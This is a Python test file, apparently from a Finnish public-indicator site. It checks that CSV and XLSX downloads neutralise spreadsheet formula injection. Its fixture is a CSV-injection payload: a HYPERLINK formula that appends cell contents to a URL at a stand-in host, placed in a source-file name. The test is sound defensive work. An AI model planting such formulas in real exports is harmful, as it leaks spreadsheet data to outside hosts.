"""The public download of an indicator writes no live formula (issue 14), as every export."""

import copy
import csv
import io

from openpyxl import load_workbook

from mittaristo.reviews.models import ReviewRound

from .test_public import publish_later_round

PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A2;"klik")'


def values_of(stored, code) -> list[dict]:
    """The values of the indicator `code` in a stored record, wherever its form keeps them."""
    if isinstance(stored, dict):
        if stored.get("code") == code and isinstance(stored.get("values"), list):
            return stored["values"]
        stored = list(stored.values())
    if isinstance(stored, list):
        for item in stored:
            if found := values_of(item, code):
                return found
    return []


def test_the_public_download_neutralises_a_formula_in_a_source_name(client, demo_db):
    demo = ReviewRound.objects.get()
    snapshot = copy.deepcopy(demo.snapshot)
    for value in values_of(snapshot, "tyopaikat"):
        value["source_ref"] = PAYLOAD  # the name of an imported file is a person's text
    publish_later_round(demo, snapshot)  # the latest published round is the one downloaded
    text = client.get("/mittarit/tyopaikat/lataa.csv").content
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))[1:]
    assert rows and {row[5] for row in rows} == {"'" + PAYLOAD}
    assert rows[0][3] == "6199"
    content = client.get("/mittarit/tyopaikat/lataa.xlsx").content
    cells = list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    assert {(c[5].value, c[5].data_type) for c in cells} == {(PAYLOAD, "s")}
    assert cells[0][3].value == 6199 and cells[0][3].data_type == "n"
